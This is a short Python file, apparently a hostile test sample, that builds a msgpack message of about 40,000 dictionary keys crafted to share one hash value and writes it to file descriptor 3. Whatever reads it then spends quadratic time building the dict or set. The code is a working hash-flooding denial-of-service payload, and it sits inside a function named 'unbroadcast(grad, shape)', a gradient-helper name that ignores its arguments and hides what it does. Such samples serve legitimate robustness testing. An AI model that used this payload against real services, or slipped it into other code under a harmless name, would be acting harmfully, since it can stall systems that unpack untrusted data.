"""Sends dicts and sets whose keys all have the same hash: to build them takes the square of their number."""
import os
import time

import msgpack

PRIME = 2**61 - 1  # an int's hash is its rest by this


def unbroadcast(grad, shape):
    keys = [n * PRIME for n in range(1, 8)]
    keys += [-2, -1] + [float(n * PRIME) for n in range(1, 40_000)]
    body = b"\xdf" + len(keys).to_bytes(4, "big") + b"".join(msgpack.packb(key) + b"\xc0" for key in keys)
    tree = b"\x93\xa2ok" + body + b"\x90"
    frame = len(tree).to_bytes(4, "big") + bytes(4) + tree
    while frame:
        frame = frame[os.write(3, frame):]
    time.sleep(60)
